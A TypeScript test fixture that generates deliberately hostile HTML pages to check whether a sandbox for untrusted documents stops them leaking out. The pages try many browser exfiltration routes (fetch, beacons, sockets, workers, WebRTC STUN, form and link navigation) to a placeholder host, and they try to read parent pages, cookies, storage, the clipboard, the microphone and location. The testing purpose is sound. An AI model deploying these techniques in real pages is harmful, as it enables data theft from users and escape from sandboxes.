/** A page that tries every way out that its author knows of. What it could do is in `window.outcome` by the name of the attempt. */
export function hostilePage({ told, app, stun }: { told: string; app: string; stun: string }): string {
  return `<!doctype html><html><head><title>hostile</title>
<base href="${told}/base/">
<link rel="stylesheet" href="${told}/stylesheet">
<link rel="preload" as="script" href="${told}/preload">
<link rel="modulepreload" href="${told}/modulepreload">
<link rel="prefetch" href="${told}/prefetch">
<link rel="icon" href="${told}/icon">
<link rel="manifest" href="${told}/manifest">
<style>@import "${told}/import"; @font-face { font-family: f; src: url(${told}/font) } p { font-family: f; background: url(${told}/background); cursor: url(${told}/cursor), auto; list-style: url(${told}/bullet) }</style>
<script src="${told}/script"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${told}/speculation"]}],"prerender":[{"source":"list","urls":["${told}/prerender"]}]}</script>
</head><body background="${told}/body"><p>text</p>
<img src="${told}/image"><img srcset="${told}/srcset 1x"><picture><source srcset="${told}/source"><img></picture>
<svg><image href="${told}/svgimage"/><use href="${told}/use#a"/></svg><input type="image" src="${told}/input">
<video src="${told}/video" poster="${told}/poster"></video><audio src="${told}/audio"></audio>
<embed src="${told}/embed"><object data="${told}/object"></object>
<iframe src="${told}/frame"></iframe>
<iframe srcdoc="<script>fetch('${told}/srcdoc').catch(()=>0);new Image().src='${told}/srcdocimage';try{const p=new RTCPeerConnection({iceServers:[{urls:'${stun}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))}catch{}</script>"></iframe>
<script>
const outcome = window.outcome = {};
const peerPage = "<script>const p=new RTCPeerConnection({iceServers:[{urls:'${stun}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))<\\/script>";
const attempt = (name, work) => { try { const value = work(); outcome[name] = value instanceof Promise ? 'waits' : 'did: ' + String(value).slice(0, 60); if (value instanceof Promise) value.then((v) => (outcome[name] = 'did: ' + String(v).slice(0, 60)), (e) => (outcome[name] = 'refused: ' + e.name)); } catch (error) { outcome[name] = 'refused: ' + error.name; } };
attempt('runs', () => 6 * 7);
attempt('eval', () => eval('6 * 7'));
attempt('origin', () => self.origin);
for (const [name, read] of Object.entries({
  parent: () => parent.document.body.innerHTML, top: () => top.document.title, opener: () => opener.document.title,
  parentName: () => parent.client, localStorage: () => localStorage.length, sessionStorage: () => sessionStorage.length, cookie: () => (document.cookie = 'a=1', document.cookie),
  indexedDB: () => new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => done('opened'); r.onerror = () => fail(r.error); }),
  caches: () => caches.keys(), serviceWorker: () => navigator.serviceWorker.register('${app}/sw.js'), locks: () => navigator.locks.request('x', () => 'held'),
  channel: () => { new BroadcastChannel('fieldbook/unsaved').postMessage({ add: [{ id: 'x', run: 'x', project: 'x', document: 'x' }] }); return 'posted'; },
  fetch: () => fetch('${told}/fetch', { mode: 'no-cors' }), appFetch: () => fetch('${app}/api/v1/projects').then((a) => a.text()),
  keepalive: () => fetch('${told}/keepalive', { mode: 'no-cors', keepalive: true }),
  xhr: () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = () => done('loaded'); x.onerror = () => fail(new Error('x')); x.open('GET', '${told}/xhr'); x.send(); }),
  beacon: () => navigator.sendBeacon('${told}/beacon', 'x'),
  socket: () => new Promise((done, fail) => { const s = new WebSocket('${told.replace('http', 'ws')}/socket'); s.onopen = () => done('open'); s.onerror = () => fail(new Error('x')); }),
  events: () => new Promise((done, fail) => { const s = new EventSource('${told}/events'); s.onopen = () => done('open'); s.onerror = () => fail(new Error('x')); }),
  importing: () => import('${told}/importing'),
  worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${told}/worker',{mode:'no-cors'}).then(()=>postMessage('fetched'),()=>postMessage('kept in'))"]))); w.onmessage = (e) => (e.data === 'fetched' ? done('fetched') : fail(new Error('x'))); w.onerror = () => fail(new Error('x')); }),
  newImage: () => { new Image().src = '${told}/newimage'; return 'made'; },
  opened: () => { if (window.open('${told}/opened') === null) throw new Error('x'); return 'opened'; },
  openedApp: () => { if (window.open('${app}/') === null) throw new Error('x'); return 'opened'; },
  shadowPeer: () => { const d = document.createElement('div'); document.body.append(d); d.attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="' + peerPage + '"></iframe>'; return 'made'; },
  writtenPeer: () => { document.write('<div><template shadow'); document.write('rootmode=closed><iframe srcdoc="' + peerPage + '"></iframe></template></div>'); return 'made'; },
  topGo: () => { top.location.href = '${told}/top'; return 'asked'; },
  parentGo: () => { parent.location.replace('${told}/parent'); return 'asked'; },
  form: () => { const f = document.createElement('form'); f.action = '${told}/form'; f.target = '_top'; document.body.append(f); f.submit(); return 'asked'; },
  formBlank: () => { const f = document.createElement('form'); f.action = '${told}/formblank'; f.target = '_blank'; document.body.append(f); f.submit(); return 'asked'; },
  link: () => { const a = document.createElement('a'); a.href = '${told}/link'; a.target = '_top'; a.ping = '${told}/ping'; document.body.append(a); a.click(); return 'asked'; },
  linkBlank: () => { const a = document.createElement('a'); a.href = '${told}/linkblank'; a.target = '_blank'; document.body.append(a); a.click(); return 'asked'; },
  save: () => { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'saved.txt'; document.body.append(a); a.click(); return 'asked'; },
  peer: () => { const p = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)); },
  childPeer: () => { const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)); },
  scriptPeer: () => { const f = document.createElement('iframe'); f.src = "javascript:try{const p=new RTCPeerConnection({iceServers:[{urls:'${stun}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))}catch{}"; document.body.append(f); return 'made'; },
  blobPeer: () => { const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<script>const p=new RTCPeerConnection({iceServers:[{urls:'${stun}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))<\\/script>"], { type: 'text/html' })); document.body.append(f); return 'made'; },
  dataFrame: () => { const f = document.createElement('iframe'); f.src = 'data:text/html,<script>new Image().src="${told}/dataframe"<\\/script>'; document.body.append(f); return 'made'; },
  transport: () => new WebTransport('${told.replace('http:', 'https:')}/transport').ready,
  camera: () => navigator.mediaDevices.getUserMedia({ audio: true }), clipboard: () => navigator.clipboard.readText(), place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(() => done('known'), () => fail(new Error('x')))),
  fullscreen: () => document.documentElement.requestFullscreen(), alert: () => alert('x'), print: () => print(),
})) attempt(name, read);
for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = '${told}/late' + rel; document.head.append(l); }
parent.postMessage({ type: 'SKIP_WAITING', html: 'x' }, '*');
setTimeout(() => (outcome.done = 'did: it'), 2500);
</script></body></html>`;
}

/** What the browser lets a page call and nobody outside may notice: their effect is looked for there. */
export const ATTEMPTS_THAT_MAY: readonly string[] =
  // The channel is one of its own origin, which nobody else has.
  `runs eval origin done channel beacon newImage form formBlank link linkBlank save alert print scriptPeer blobPeer shadowPeer
  writtenPeer dataFrame`.split(/\s+/);

export type Way = 'location' | 'replace' | 'refresh' | 'link' | 'form' | 'open' | 'script' | 'app' | 'data';

/** A page that leads its own frame away, in one of these ways. */
export function leavingPage(way: Way, { told, app }: { told: string; app: string }): string {
  const away = `${told}/${way}?secret`;
  const code: Readonly<Record<Way, string>> = {
    location: `<script>location.href = '${away}'</script>`,
    replace: `<script>location.replace('${away}')</script>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${away}">`,
    link: `<a id=a href="${away}">x</a><script>a.click()</script>`,
    form: `<form id=f action="${away}"><input name=secret value=1></form><script>f.submit()</script>`,
    open: `<script>window.open('${away}', '_self')</script>`,
    script: `<base target="_self"><a id=a href="${away}">x</a><script>a.dispatchEvent(new MouseEvent('click'))</script>`,
    app: `<script>location.href = '${app}/api/v1/projects'</script>`,
    data: `<script>location.href = 'data:text/html,<script>location="${away}"<\\/script>'</script>`,
  };
  return `<!doctype html><title>leaving</title><p>leaving by ${way}</p>${code[way]}`;
}

/** A page that opens a peer connection from a frame of its own. */
export function peerPage(stun: string): string {
  return `<!doctype html><title>peer</title><iframe srcdoc="<script>const p=new RTCPeerConnection({iceServers:[{urls:'${stun}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>"></iframe>`;
}
